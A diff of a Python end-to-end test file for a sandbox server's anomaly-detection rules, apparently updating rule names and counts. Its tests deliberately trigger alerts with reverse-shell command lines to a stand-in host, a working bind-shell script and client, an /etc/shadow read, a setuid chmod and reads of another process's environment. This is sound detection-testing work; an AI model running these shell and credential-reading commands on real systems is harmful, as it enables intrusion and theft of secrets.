@@ -1,8 +1,9 @@
 """Anomaly detection end to end, part two, through the real e2b SDK and real gVisor sandboxes:
 incidents (one attack, one alert with a count and every rule that fired in it), and the
 detections built on the metrics samples, volume sums, chmod system calls and accepted sockets:
-sustained full CPU, outbound volume, setuid by chmod(2), a bind shell, and a process reading
-its own /proc/<pid>/environ raising nothing while reading another's does.
+sustained full CPU, outbound volume, setuid by chmod(2) (`setuid_chmod_syscall`), a bind
+shell, and a process reading its own /proc/<pid>/environ raising nothing while reading
+another's does.
 
 One networked `kiln serve` with the built-in pack, its CPU rule's time and threshold lowered for
 a test (`for: 2m` → 6 s and 90 % → 40 %: the shared 2-core test machine cannot promise a
@@ -74,7 +75,7 @@ def srv(net):
                     "--dns-upstream", DNS])
     try:
         s.start()
-        assert "anomaly detection: 28 rules" in s.log(), s.log()
+        assert "anomaly detection: 29 rules" in s.log(), s.log()
         yield s
     finally:
         s.kill_all_sandboxes()
@@ -117,7 +118,7 @@ def test_one_attack_is_one_incident(srv):
     try:
         # Four reverse-shell command lines (only echoed) of two rules, one incident; a shadow
         # read is another incident.
-        for line in ["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"] * 3 + ["nc -e /bin/sh 198.51.100.7 4444"]:
+        for line in ["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"] * 3 + ["socat tcp:198.51.100.7:4444 exec:/bin/sh"]:
             sbx.commands.run(f"echo '{line}' > /dev/null")
         sbx.commands.run("cat /etc/shadow > /dev/null 2>&1 || true")
         got = wait_alerts(srv, sbx.sandbox_id, lambda a: sum(x["count"] for x in a) >= 5)
@@ -208,8 +209,8 @@ def test_setuid_by_a_chmod_system_call(srv):
         got = wait_alerts(srv, sbx.sandbox_id, lambda a: a)
         time.sleep(1.0)
         got = alerts(srv, sbx.sandbox_id)
-        assert [(a["rule"], a["count"]) for a in got] == [("setuid_chmod", 1)], got
-        assert got[0]["output"].endswith("mode 4755"), got
+        assert [(a["rule"], a["count"]) for a in got] == [("setuid_chmod_syscall", 1)], got
+        assert got[0]["output"] == f"setuid/setgid mode set in sandbox {sbx.sandbox_id}: chmod mode 4755", got
     finally:
         sbx.kill()
 
@@ -226,7 +227,7 @@ for fd in (0, 1, 2):
 subprocess.call(["/bin/sh", "-i"])
 """
 
-OPERATOR = """
+CLIENT = """
 import socket, time
 for _ in range(100):
     try:
@@ -251,9 +252,9 @@ def test_a_bind_shell(srv):
     sbx = Sandbox.create(timeout=120, metadata=AUDIT_SYSCALLS, **srv.opts())
     try:
         sbx.files.write("/tmp/bind.py", BIND_SHELL)
-        sbx.files.write("/tmp/operator.py", OPERATOR)
+        sbx.files.write("/tmp/client.py", CLIENT)
         sbx.commands.run("timeout 30 python3 /tmp/bind.py", background=True, timeout=0)
-        out = sbx.commands.run("timeout 30 python3 /tmp/operator.py", timeout=40).stdout
+        out = sbx.commands.run("timeout 30 python3 /tmp/client.py", timeout=40).stdout
         assert "pwned-42" in out, out
         got = wait_alerts(srv, sbx.sandbox_id, lambda a: a and a[0]["count"] >= 3)
         assert len(got) == 1, got
@@ -285,7 +286,7 @@ def test_own_environ_is_not_another_process_environ(srv):
     try:
         sbx.files.write("/tmp/own.py", OWN_ENV)
         sbx.files.write("/tmp/other.py", OTHER_ENV)
-        sbx.commands.run("python3 /tmp/own.py && tr '\\0' '\\n' < /proc/$$/environ > /dev/null")
+        sbx.commands.run("python3 /tmp/own.py && tr '\\0' '\\n' < /proc/self/environ > /dev/null")
         time.sleep(1.5)
         assert alerts(srv, sbx.sandbox_id) == []
         sbx.commands.run("python3 /tmp/other.py")
